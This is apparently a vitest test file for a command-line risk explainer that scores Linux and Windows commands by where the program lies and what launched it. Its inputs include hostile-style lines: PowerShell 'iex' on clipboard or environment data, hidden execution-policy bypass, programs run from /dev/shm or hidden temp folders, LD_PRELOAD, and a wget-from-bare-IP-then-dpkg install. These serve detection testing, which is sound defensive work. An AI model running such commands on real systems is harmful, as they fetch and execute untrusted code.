import { describe, expect, it } from "vitest";
import { builtinCatalog } from "../catalog/load.ts";
import { explain } from "../pipeline/explain.ts";

const sentence = (commandLine: string) =>
  explain({ commandLine, platform: "linux" }, builtinCatalog()).explanation.verdict.text;

it.each(["/nix/store/0b7k-kelp-2.1/bin/kelp", "/gnu/store/0b7k-kelp-2.1/bin/kelp", "/opt/kelp/bin/kelp"])(
  "calls what package managers put into their store installed: %s",
  (program) => {
    expect(sentence(`find . -exec ${program} {} ;`)).toContain("from a folder that only root can write to");
    expect(sentence(`find . -exec /mnt${program} {} ;`)).not.toContain("only root");
  },
);

it.each([
  ["nohup /dev/shm/k7", "It runs this program, which lies in shared memory, where no programs are kept."],
  ["nohup /tmp/.k/a7", "It runs this program, which is hidden among temporary files."],
  ["nohup /home/ana/.cache/k7", "which lies among the caches and settings of a user, where no programs are kept."],
  ["nohup /tmp/k7", "It runs this program, which lies loose in a temporary folder, and has no ending."],
])("says once, and closely, where a program of Linux lies that has no home: %s", (line, says) => {
  expect(sentence(line)).toContain(says);
  expect(sentence(line)).not.toMatch(/from a (?:temporary )?folder/);
});

it("is said to lie where only root writes on Linux", () => {
  expect(sentence("env /usr/bin/true")).toContain("from a folder that only root can write to");
});

it("is not said to lie where only administrators write what a variable decides", () => {
  const line = "iediagcmd.exe /out:C:\\k\\a.cab";
  const { verdict } = explain({ commandLine: line, platform: "windows" }, builtinCatalog()).explanation;
  expect([verdict.level, verdict.text]).toEqual(["low", expect.not.stringContaining("administrators")]);
});

it.each(["Get-Clipboard | iex", "iex $env:settings", "(Get-WinEvent -LogName Kiwi).Message | iex"])(
  "is not said to lie anywhere where it is the name of a place: %s",
  (code) => {
    const request = { commandLine: `powershell -c "${code}"`, platform: "windows" } as const;
    const { text } = explain(request, builtinCatalog()).explanation.verdict;
    expect(text).toContain("that is kept in");
    expect(text).not.toMatch(/folder|stream/);
  },
);

describe("a script in a folder of its own on the drive", () => {
  const levelOf = (commandLine: string, parent?: string) =>
    explain({ commandLine, platform: "windows", ...(parent && { parent }) }, builtinCatalog()).explanation.verdict
      .level;

  it("is ordinary for a batch file, and for nobody else", () => {
    expect(levelOf("cscript //nologo C:\\kiosk\\report.vbs", "C:\\Windows\\System32\\cmd.exe")).toBe("low");
    expect(levelOf("cscript //nologo C:\\kiosk\\report.vbs", "C:\\Windows\\System32\\mshta.exe")).toBe("high");
    expect(levelOf("regsvr32 /s C:\\kiosk\\report.dll", "C:\\Windows\\System32\\cmd.exe")).toBe("medium");
    expect(levelOf("regsvr32 /s C:\\kiosk\\report.ocx", "C:\\Windows\\System32\\cmd.exe")).toBe("low");
    expect(levelOf("regsvr32 /s C:\\Users\\Public\\report.ocx", "C:\\Windows\\System32\\cmd.exe")).toBe("high");
  });
});

describe("a package in a temporary folder", () => {
  const levelOf = (name: string, parent: string) =>
    explain(
      { commandLine: `msiexec /qn /i C:\\Users\\amy\\AppData\\Local\\Temp\\${name}`, platform: "windows", parent },
      builtinCatalog(),
    ).explanation.verdict.level;

  it("tells less in a folder of its own, where a script of a shell has put it", () => {
    expect(levelOf("kiwi\\kiwi.msi", "C:\\Windows\\System32\\cmd.exe")).toBe("low");
    expect(levelOf("setup.msi", "C:\\Windows\\System32\\cmd.exe")).toBe("medium");
    expect(levelOf("kiwi\\kiwi.msi", "C:\\Windows\\explorer.exe")).toBe("medium");
  });

  it("tells less under the name that its maker gave it, unless a script host brings it", () => {
    expect(levelOf("kiwi-4.2.1-x64.msi", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")).toBe("low");
    expect(levelOf("kiwi-4.2.1-x64.msi", "C:\\Windows\\System32\\wscript.exe")).toBe("medium");
    expect(levelOf("kiwi-4.msi", "C:\\Windows\\explorer.exe")).toBe("medium");
  });

  it("tells less under a name of software, where a shell is known to have started it", () => {
    const cmd = "C:\\Windows\\System32\\cmd.exe";
    for (const name of ["kiwi.msi", "KiwiCLI.msi", "kiwi-setup.msi"]) expect(levelOf(name, cmd), name).toBe("low");
    for (const name of ["a.msi", "setup.msi", "update.msi", "kx7f2.msi", "qwrtzp.msi", "Scan_0231.msi"])
      expect(levelOf(name, cmd), name).toBe("medium");
    expect(levelOf("kiwi.msi", "C:\\Windows\\explorer.exe")).toBe("medium");
    expect(levelOf("kiwi.msi", "C:\\Windows\\System32\\wscript.exe")).toBe("high");
  });
});

describe("a line of which nobody knows who started it", () => {
  const levelOf = (commandLine: string) =>
    explain({ commandLine, platform: "windows" }, builtinCatalog()).explanation.verdict.level;

  it("is taken for one of a script, where it runs what scripts bring", () => {
    expect(levelOf("cscript //nologo ..\\tools\\count.vbs")).toBe("low");
    expect(levelOf("regsvr32 /s D:\\Kiosk\\filters\\split.ax")).toBe("low");
    expect(levelOf("mshta D:\\Kiosk\\panel.hta")).toBe("low");
    expect(levelOf("mshta C:\\Users\\amy\\kiosk\\panel.hta?port=5100")).toBe("low");
  });

  it("is not where things are dropped, or where a shell is started", () => {
    expect(levelOf("cscript //nologo C:\\Users\\Public\\tools\\count.vbs")).toBe("medium");
    expect(levelOf("regsvr32 /s C:\\Users\\amy\\AppData\\Roaming\\filters\\split.ax")).toBe("medium");
    expect(levelOf("mshta C:\\Users\\amy\\Downloads\\kiosk\\panel.hta")).toBe("medium");
    expect(levelOf("mshta panel.hta")).toBe("high");
    expect(levelOf("powershell -w hidden -ep bypass -File count.ps1")).toBe("medium");
  });
});

describe("a help file", () => {
  const levelOf = (file: string) =>
    explain({ commandLine: `C:\\Windows\\hh.exe ${file}`, platform: "windows" }, builtinCatalog()).explanation.verdict
      .level;

  it("is a book in a folder of its own, or by its name among what arrives", () => {
    expect(levelOf("D:\\books\\kettles.chm")).toBe("low");
    expect(levelOf("C:\\Users\\amy\\Downloads\\kettles.chm")).toBe("low");
    expect(levelOf("C:\\Users\\amy\\Downloads\\x7q.chm")).toBe("medium");
    expect(levelOf("C:\\Users\\amy\\AppData\\Local\\Temp\\kettles.chm")).toBe("medium");
    expect(levelOf("C:\\kettles.chm")).toBe("medium");
  });
});

describe("a service", () => {
  const parent = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  const levelOf = (commandLine: string) =>
    explain({ commandLine, platform: "windows", parent }, builtinCatalog()).explanation.verdict.level;

  it("is set up by scripts of PowerShell, but not out of a user's folder", () => {
    expect(levelOf("sc.exe create Watch binPath= C:\\src\\watch\\Watch.exe")).toBe("low");
    expect(levelOf("sc.exe create Watch binPath= C:\\Users\\Public\\watch\\Watch.exe")).toBe("medium");
  });
});

describe("a folder of Linux", () => {
  const score = (commandLine: string) =>
    explain({ commandLine, platform: "linux" }, builtinCatalog()).explanation.verdict.score;

  it("tells less at the root, where images of containers keep their settings", () => {
    expect(score("dhclient -cf /dhclient.conf")).toBeLessThan(score("dhclient -cf /a/dhclient.conf"));
  });

  it("may be a project in a temporary folder, if it is not hidden", () => {
    expect(score("make -C /tmp/x")).toBeLessThan(score("make -C /tmp/.x"));
  });

  it("tells less where a script lays down what it writes for its own use", () => {
    const own = score("t=$(mktemp); echo 'info files' > $t; gdb -batch -x $t");
    expect(own).toBeLessThan(40);
    expect(own).toBeLessThan(score("echo 'info files' > /tmp/t; gdb -batch -x /tmp/t"));
  });

  it("tells less where a build leaves what it has made", () => {
    expect(score("LD_PRELOAD=./.libs/a.so ls")).toBeLessThan(score("LD_PRELOAD=./a/a.so ls"));
  });
});

describe("a program that comes with Windows and with products", () => {
  const sentenceOf = (image: string) =>
    explain({ commandLine: "csc.exe /nologo a.cs", platform: "windows", image }, builtinCatalog()).explanation.verdict
      .text;

  it("is at home in the product's folder, of either width, and elsewhere not", () => {
    const compiler = (folder: string) =>
      sentenceOf(`${folder}\\2019\\BuildTools\\MSBuild\\Current\\Bin\\Roslyn\\csc.exe`);
    expect(compiler("C:\\Program Files\\Microsoft Visual Studio")).not.toContain("belongs in");
    expect(compiler("C:\\Program Files (x86)\\Microsoft Visual Studio")).not.toContain("belongs in");
    expect(compiler("C:\\Program Files (x86)\\Kiwi")).toContain("belongs in the Windows folder");
    expect(compiler("C:\\Kiwi\\Program Files (x86)\\Microsoft Visual Studio")).toContain(
      "belongs in the Windows folder",
    );
  });
});

describe("the package of a distribution", () => {
  const levelOf = (line: string) =>
    explain({ commandLine: line, platform: "linux" }, builtinCatalog()).explanation.verdict.level;

  it.each([
    "sh -c 'dpkg -i /tmp/kelp.deb && rm -f /tmp/kelp.deb'",
    "sh -c 'apt-get install -y /tmp/pkgs/agent.deb'",
    "sh -c 'dnf install -y /var/tmp/kelp-2.1.x86_64.rpm'",
    "dpkg --unpack /tmp/kelp_2.1_amd64.deb",
    "sh -c 'gem install /tmp/pkg/kelp-2.1.gem'",
  ])("is laid down in /tmp to be installed: %s", (line) => expect(levelOf(line)).toBe("low"));

  it.each([
    "dpkg -i /dev/shm/kelp.deb",
    "sh -c 'dpkg -i /tmp/.kelp/kelp.deb'",
    "sh -c 'dpkg -i /tmp/x.deb'",
    "sh -c 'wget -q http://203.0.113.5/kelp_2.1_amd64.deb && dpkg -i kelp_2.1_amd64.deb'",
    "sh -c 'wget -q https://files.example.net/a.deb && dpkg -i a.deb'",
  ])("is told of where it is hidden, nameless or anybody's: %s", (line) =>
    expect(levelOf(line)).toMatch(/^(?:medium|high)$/),
  );

  it("comes out of the archive in which a distribution keeps its packages", () => {
    const install = (folder: string) =>
      levelOf(`sh -c 'wget -q ${folder}/libkelp1_1.1-1_amd64.deb && dpkg -i libkelp1_1.1-1_amd64.deb'`);
    expect(install("http://archive.ubuntu.com/ubuntu/pool/main/k/kelp")).toBe("low");
    expect(install("http://ftp.de.debian.org/debian/pool/main/libk/libkelp")).toBe("low");
    expect(install("http://security.debian.org/debian-security/pool/updates/main/k/kelp")).toBe("low");
    expect(install("http://archive.ubuntu.com.kelp.example/ubuntu/pool/main/k/kelp")).toBe("medium");
    expect(install("http://ftp.debian.org/incoming")).toBe("medium");
  });

  it("is called so where the line has fetched it, and comes from the project that has released it", () => {
    const release = "https://github.com/kelp-tools/kelp/releases/download/v2.1/kelp_2.1_amd64.deb";
    const line = `sh -c 'wget -q ${release} && dpkg -i kelp_2.1_amd64.deb'`;
    expect(sentence(line)).toContain(`has just fetched: the package ${release}`);
    expect(levelOf(line)).toBe("low");
  });
});

it.each([
  ["/entrypoint.sh", "/app/kiwi.sh"],
  ["/app/kiwi.sh", "/app/.k/kiwi.sh"],
  ["/data/kiwi/kiwi.sh", "/tmp/kiwi/kiwi.sh"],
])("weighs what lies at the root of Linux less than what is hidden or anybody's: %s", (less, more) => {
  const score = (script: string) =>
    explain({ commandLine: `gdb -x ${script}`, platform: "linux" }, builtinCatalog()).explanation.verdict.score;
  expect(score(less)).toBeLessThan(score(more));
});

describe("a home on Linux", () => {
  const verdict = (commandLine: string) =>
    explain({ commandLine, platform: "linux" }, builtinCatalog()).explanation.verdict;

  it.each([
    "tmux -f /home/ana/.config/tmux/kiwi.conf",
    "tmux -f ~/.tmux.kiwi",
    "bash --rcfile /home/ana/.config/bash/rc",
    "git -c core.hooksPath=/root/.config/git/hooks commit",
    "find . -exec /home/ana/.local/bin/kiwi {} +",
    "yt-dlp --config-locations /home/ana/.config/yt-dlp/config x",
  ])("holds settings and tools in folders that are hidden: %s", (line) => {
    expect(verdict(line).score).toBeLessThan(40);
  });

  it.each([
    "tmux -f /home/ana/.config/htop/k7",
    "tmux -f ~/.tmux/.k7",
    "find . -exec /home/ana/.config/k7 {} +",
    "find . -exec /home/ana/.local/bin/.k7 {} +",
    "ar rc --plugin ~/.arc/k7.so a.a b.o",
  ])("hides what is neither: %s", (line) => {
    expect(verdict(line).score).toBeGreaterThan(40);
  });

  it("holds caches and settings, among which there are no programs", () => {
    const text = "lies among the caches and settings of a user";
    expect(verdict("nohup /home/ana/.config/htop/k7").text).toContain(text);
    expect(verdict("w3m -config /home/ana/.config/w3m/config x").text).not.toContain(text);
  });
});
